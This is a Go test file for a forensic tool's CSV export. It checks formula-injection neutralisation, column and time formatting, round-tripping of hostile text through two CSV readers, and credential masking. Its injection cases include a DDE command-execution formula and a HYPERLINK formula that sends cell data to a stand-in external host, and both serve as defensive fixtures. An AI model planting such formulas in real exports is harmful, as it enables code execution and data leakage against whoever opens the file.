package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/exhibit-forensics/exhibit/core/export"
)

// readCSV reads a file with the standard library's reader, cells by column.
func readCSV(t testing.TB, file []byte) []map[string]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(file, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatal("no byte order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, cell := range row {
			m[rows[0][i]] = cell
		}
		out = append(out, m)
	}
	return out
}

// undo takes away what makes cells safe.
func undo(cell string) string { return strings.TrimPrefix(cell, "'") }

func TestCSVInjection(t *testing.T) {
	for _, c := range []struct {
		name, text string
		prefixed   bool
	}{
		{"formula", `=cmd|'/C calc'!A0`, true},
		{"hyperlink", `=HYPERLINK("http://x.example/?"&A1,"a")`, true},
		{"plus", "+8613800000000", true},
		{"minus", "-2+3", true},
		{"at", "@SUM(A1)", true},
		{"tab", "\t=1", true},
		{"carriage return", "\r=1", true},
		{"newline", "\n=1", true},
		{"full-width equals", "＝1+1", true},
		{"full-width plus", "＋1", true},
		{"full-width minus", "－1", true},
		{"full-width at", "＠a", true},
		{"apostrophe", "'=1", true},
		{"apostrophes", "''", true},
		{"quote", `"=1"`, false},
		{"equals inside", "a=1", false},
		{"blank first", " =1", false},
		{"leading zeros", "007", false},
		{"semicolon", "a;=1", false},
		{"other full-width", "ａ＝", false},
		{"cut in a character of three bytes", "\uFF1C", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec := line(t, 1, map[string]any{"text": c.text})
			file, r := write(t, export.Options{Format: "csv"}, rec)
			cell := readCSV(t, file)[0]["text"]
			want := c.text
			if c.prefixed {
				want = "'" + want
			}
			if cell != want || (r.Changes.PrefixedIn["text"] == 1) != c.prefixed || undo(cell) != c.text && c.prefixed {
				t.Errorf("cell %q, counted %v; want %q", cell, r.Changes.PrefixedIn, want)
			}
			file, r = write(t, export.Options{Format: "csv", Raw: true}, rec)
			if cell := readCSV(t, file)[0]["text"]; cell != c.text || r.Changes.Prefixed != 0 {
				t.Errorf("raw cell %q, counted %d", cell, r.Changes.Prefixed)
			}
		})
	}
}

func TestCSVColumnsAndTimes(t *testing.T) {
	rec := line(t, 1, map[string]any{
		"time": "2008-08-01T16:30:00.25Z", "time_kind": "sent", "time_raw": "1217608200.25", "to": []string{"a", "b"}, "from": "0123",
		"time_basis": map[string]any{"basis": "declared", "unit": "s", "epoch": "unix", "odd": 1},
		"extra":      map[string]any{"x": "1"}, "text_raw": "AA==", "flags": []string{}, "participants": nil,
	})
	file, _ := write(t, export.Options{Format: "csv", Zone: zone(t, "Asia/Shanghai"), ZoneName: "Asia/Shanghai"}, rec)
	row := readCSV(t, file)[0]
	for name, want := range map[string]string{
		"id": setA + ":1", "time": "2008-08-01T16:30:00.25Z", "time_local": "2008-08-02T00:30:00.25+08:00", "zone": "Asia/Shanghai",
		"to": `["a","b"]`, "from": "0123", "time_basis": "declared", "time_unit": "s", "time_epoch": "unix", "extra": `{"x":"1"}`,
		"other": `{"text_raw":"AA==","time_basis":{"odd":1}}`, "source_path": "a/b.log", "source_offset": "10", "flags": "", "participants": "",
	} {
		if row[name] != want {
			t.Errorf("%s: %q, want %q", name, row[name], want)
		}
	}
	// Of one kind alone, what has no column of its own is not lost.
	file, _ = write(t, export.Options{Format: "csv", Kind: "keyword"}, rec)
	row = readCSV(t, file)[0]
	if _, has := row["from"]; has || !strings.Contains(row["other"], `"from":"0123"`) {
		t.Errorf("columns of keyword: %q", row)
	}
	if !bytes.HasSuffix(file, []byte("\r\n")) || bytes.Count(file, []byte("\r\n")) != 2 {
		t.Error("lines do not end in CRLF")
	}
}

// A list of one text is that text, unless it could be taken for something else.
func TestCSVLists(t *testing.T) {
	for _, c := range []struct {
		list []string
		want string
	}{
		{[]string{"a"}, "a"},
		{[]string{"a,b"}, "a,b"},
		{[]string{""}, `[""]`},
		{[]string{"[a]"}, `["[a]"]`},
		{[]string{`a"`, "b"}, `["a\"","b"]`},
		{[]string{`a","b`}, `a","b`},
		{[]string{}, ""},
	} {
		file, _ := write(t, export.Options{Format: "csv"}, line(t, 1, map[string]any{"to": c.list}))
		if got := readCSV(t, file)[0]["to"]; got != c.want {
			t.Errorf("%q: %q, want %q", c.list, got, c.want)
		}
	}
}

// hostile draws text of what breaks tables: quotes, separators, control characters,
// marks of direction, characters outside the basic plane.
func hostile() *rapid.Generator[string] {
	return rapid.StringOfN(rapid.OneOf(
		rapid.SampledFrom([]rune("=+-@'\"\t\r\n,;_x0041_\\[]{}<>&\x00\x01\x1f\x7f\u202e\u2028\ufeff\ufffe\uffff＝＋😀 ")), rapid.Rune(),
	), 0, 40, -1).Filter(func(s string) bool { return !strings.ContainsRune(s, '\uFFFD') })
}

func TestCSVKeepsHostileText(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		texts := []string{}
		var lines [][]byte
		for i := range rapid.IntRange(1, 5).Draw(rt, "rows") {
			s := hostile().Draw(rt, "text")
			texts = append(texts, s)
			lines = append(lines, line(t, i+1, map[string]any{"text": s, "from": s, "account": s, "extra": map[string]any{"a": s}}))
		}
		file, _ := write(t, export.Options{Format: "csv"}, lines...)
		rows := readCSV(t, file)
		if len(rows) != len(texts) {
			rt.Fatalf("%d rows of %d", len(rows), len(texts))
		}
		for i, want := range texts {
			// encoding/csv turns CRLF within quotes into a newline.
			want = strings.ReplaceAll(want, "\r\n", "\n")
			if got := undo(rows[i]["text"]); got != want || undo(rows[i]["from"]) != want {
				rt.Fatalf("%q became %q", want, got)
			}
			for _, cell := range rows[i] {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
					rt.Fatalf("a cell that may be a formula: %q", cell)
				}
			}
			var extra map[string]string
			if err := json.Unmarshal([]byte(rows[i]["extra"]), &extra); err != nil || extra["a"] != texts[i] {
				rt.Fatalf("extra %q: %v", rows[i]["extra"], err)
			}
		}
	})
}

// Python's reader, another implementation, sees exactly the same text, CRLF included.
func TestCSVByPython(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("NOT TESTED: no python3")
	}
	texts := []string{"a\r\nb", "a\rb", "a\nb", `"`, `""`, "'=1", "=1", "a,b", "a;b", "\u202eabc", " x ", "😀", "\x01\x1f\x7f", strings.Repeat("長", 40000), "[x", "0123"}
	var lines [][]byte
	for i, s := range texts {
		lines = append(lines, line(t, i+1, map[string]any{"text": s, "to": []string{s}}))
	}
	file, _ := write(t, export.Options{Format: "csv"}, lines...)
	name := filepath.Join(t.TempDir(), "a.csv")
	if err := os.WriteFile(name, file, 0o600); err != nil {
		t.Fatal(err)
	}
	const script = `
import csv, json, sys
csv.field_size_limit(1 << 22)
un = lambda s: s[1:] if s.startswith("'") else s
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8-sig"), strict=True))
def items(s):
    return json.loads(s) if s.startswith("[") else [s]
json.dump([[un(r["text"]), items(un(r["to"]))] for r in rows], sys.stdout)`
	out, err := exec.Command(python, "-c", script, name).Output()
	if err != nil {
		t.Fatal(err)
	}
	var got [][2]json.RawMessage
	if err := json.Unmarshal(out, &got); err != nil || len(got) != len(texts) {
		t.Fatalf("%d rows: %v", len(got), err)
	}
	for i, want := range texts {
		var text string
		var to []string
		if err := json.Unmarshal(got[i][0], &text); err != nil || text != want {
			t.Errorf("%.40q became %.40q", want, text)
		}
		if err := json.Unmarshal(got[i][1], &to); err != nil || !slices.Equal(to, []string{want}) {
			t.Errorf("list of %.40q became %.40q", want, to)
		}
	}
}

func TestCredentialsAreMasked(t *testing.T) {
	rec := line(t, 1, map[string]any{"kind": "account", "time": "2008-01-01T00:00:00Z", "credential": map[string]any{"type": "password", "value": "s3cret-of-hers"}})
	for _, f := range []string{"csv", "timesketch"} {
		file, r := write(t, export.Options{Format: f}, rec)
		if bytes.Contains(file, []byte("s3cret")) || r.Changes.Masked != 1 {
			t.Errorf("%s: shown, or not counted (%d)", f, r.Changes.Masked)
		}
		file, r = write(t, export.Options{Format: f, Credentials: true}, rec)
		if !bytes.Contains(file, []byte("s3cret")) || r.Changes.Masked != 0 {
			t.Errorf("%s: not shown though asked for", f)
		}
	}
	file, _ := write(t, export.Options{Format: "xlsx"}, rec)
	if cells := sheetOf(t, file, "account"); cells[1][indexOf(t, cells[0], "credential_value")] != "••••••••" {
		t.Error("xlsx shows it")
	}
}

// The walk through a record relies on it.
func TestNamesOfMembersArePlain(t *testing.T) {
	for _, name := range export.MemberNames() {
		if strings.Trim(name, "abcdefghijklmnopqrstuvwxyz_") != "" {
			t.Errorf("%q", name)
		}
	}
}
